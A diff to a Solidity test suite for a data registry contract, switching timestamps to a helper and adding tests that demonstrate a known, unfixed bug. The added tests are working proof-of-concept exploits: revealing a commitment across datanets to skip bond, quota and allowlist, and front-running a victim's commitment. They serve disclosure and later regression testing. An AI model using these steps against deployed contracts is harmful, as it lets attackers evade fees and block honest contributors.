@@ -17,10 +17,10 @@ contract DatanetRegistryTest is RegistryTestBase {
         token.approve(address(registry), BOND);
         registry.commitSubmission(datanetId, commitment, 1, 10);
         vm.expectRevert(
-            abi.encodeWithSelector(IDatanetRegistry.CommitmentNotMatured.selector, commitment, block.timestamp)
+            abi.encodeWithSelector(IDatanetRegistry.CommitmentNotMatured.selector, commitment, _now())
         );
         registry.submit(datanetId, contentHash, 10, "ipfs://x", salt);
-        vm.warp(block.timestamp + 1);
+        vm.warp(_now() + 1);
         assertEq(registry.submit(datanetId, contentHash, 10, "ipfs://x", salt), 1);
     }
 
@@ -30,7 +30,7 @@ contract DatanetRegistryTest is RegistryTestBase {
         (bytes32 early, bytes32 earlySalt) = _commitNext(contributors[0], 10);
         (bytes32 late, bytes32 lateSalt) = _commitNext(contributors[1], 20);
         bytes32 lateCommitment = _commitment(contributors[1], late, lateSalt);
-        uint256 lateCommittedAt = block.timestamp - 1;
+        uint256 lateCommittedAt = _now() - 1;
         // The first commitment was made one second before the second.
         vm.warp(lateCommittedAt - 1 + registry.REVEAL_WINDOW());
         vm.prank(contributors[0]);
@@ -79,7 +79,7 @@ contract DatanetRegistryTest is RegistryTestBase {
 
         for (uint256 step = 0; step < 24; ++step) {
             uint256 r = uint256(keccak256(abi.encode(seed, step)));
-            vm.warp(block.timestamp + (r % 37) * 1 hours);
+            vm.warp(_now() + (r % 37) * 1 hours);
             uint256 who = (r >> 8) % 3;
             uint64 size = uint64((r >> 16) % 121);
             address contributor = contributors[who];
@@ -118,7 +118,7 @@ contract DatanetRegistryTest is RegistryTestBase {
                 bytesUsed[who] += size;
                 datanetBytes += size;
                 bonds += BOND;
-                vm.warp(block.timestamp + 1);
+                vm.warp(_now() + 1);
                 if (size > MAX_ITEM) {
                     vm.expectRevert(
                         abi.encodeWithSelector(
@@ -146,8 +146,73 @@ contract DatanetRegistryTest is RegistryTestBase {
 
     /// The epoch is the number of whole epoch lengths since creation, whatever the time.
     function testFuzz_EpochArithmetic(uint32 elapsed) public {
-        uint256 created = block.timestamp;
+        uint256 created = _now();
         vm.warp(created + elapsed);
         assertEq(registry.currentEpoch(datanetId), elapsed / EPOCH);
+    }
+}
+
+/// KNOWN CONTRACT BUG, reported and not fixed on this branch (contracts/ are not its to change).
+/// `commitSubmission(datanetId, commitment, ...)` stores any commitment under the datanet named in the
+/// call, and `_consumeCommitment` (DatanetRegistry.sol, the reveal) finds it by
+/// keccak256(sender, datanetId, digest, salt) without checking that the stored `Commitment.datanetId`
+/// is the datanet revealed to. The commitment is also not bound to its committer when it is made.
+/// These tests PASS WHILE THE BUG EXISTS: they show the exploit. When the registry binds a commitment
+/// to its datanet and committer, each final step must revert instead; turn them into regression tests.
+contract DatanetRegistryKnownBugTest is RegistryTestBase {
+    address internal attacker = address(0xBAD);
+    address internal victim = address(0xA11CE);
+    uint256 internal loose;
+
+    function setUp() public {
+        _deployRegistry();
+        // A datanet the attacker owns: no bond, roomy quotas.
+        IDatanetRegistry.DatanetPolicy memory policy = _policy();
+        policy.submissionBond = 0;
+        vm.prank(attacker);
+        loose = registry.createDatanet(IDatanetRegistry.DataKind.Other, "ipfs://loose", policy);
+    }
+
+    /// A commitment made on the bondless datanet is revealed on a bonded, allowlist-only one: the
+    /// contribution registers there with no bond, no quota used and no allowlist check.
+    function test_KnownBug_CommitOnAnotherDatanetSkipsBondQuotaAndAllowlist() public {
+        IDatanetRegistry.DatanetPolicy memory policy = _policy();
+        policy.allowlistOnly = true;
+        uint256 guarded = registry.createDatanet(IDatanetRegistry.DataKind.Text, "ipfs://guarded", policy);
+        assertFalse(registry.isAllowlisted(guarded, attacker));
+        (bytes32 contentHash, bytes32 salt) = _newContent(10);
+
+        vm.prank(attacker);
+        registry.commitSubmission(loose, _commitmentOn(guarded, attacker, contentHash, salt), 1, 10);
+        vm.warp(_now() + 1);
+        vm.prank(attacker);
+        registry.submit(guarded, contentHash, 10, "ipfs://x", salt);
+
+        IDatanetRegistry.Contribution memory c = registry.getContribution(contentHash);
+        assertEq(c.datanetId, guarded, "registered on the guarded datanet");
+        assertEq(c.contributor, attacker);
+        assertEq(c.bond, 0, "no bond although the guarded datanet asks for one");
+        assertEq(registry.contributorUsage(guarded, attacker).contributions, 0, "no quota used there");
+        assertEq(registry.datanetBytesUsed(guarded), 0);
+        assertEq(token.balanceOf(address(registry)), 0, "no OPEN was ever paid");
+    }
+
+    /// Seeing a victim's commitment in the mempool, the attacker makes it first on the bondless
+    /// datanet with a one-item, one-byte reservation: the victim's commit reverts, and its reveal
+    /// (which finds the attacker's reservation) does not fit.
+    function test_KnownBug_AnyoneCanTakeAnotherContributorsCommitment() public {
+        (bytes32 contentHash, bytes32 salt) = _newContent(10);
+        bytes32 commitment = _commitment(victim, contentHash, salt);
+        vm.prank(attacker);
+        registry.commitSubmission(loose, commitment, 1, 1);
+
+        _payBond(victim, BOND);
+        vm.expectRevert(abi.encodeWithSelector(IDatanetRegistry.CommitmentAlreadyExists.selector, commitment));
+        vm.prank(victim);
+        registry.commitSubmission(datanetId, commitment, 1, 10);
+        vm.warp(_now() + 1);
+        vm.expectRevert(abi.encodeWithSelector(IDatanetRegistry.RevealMismatch.selector, commitment, 1, 1, 1, 10));
+        vm.prank(victim);
+        registry.submit(datanetId, contentHash, 10, "ipfs://x", salt);
     }
 }
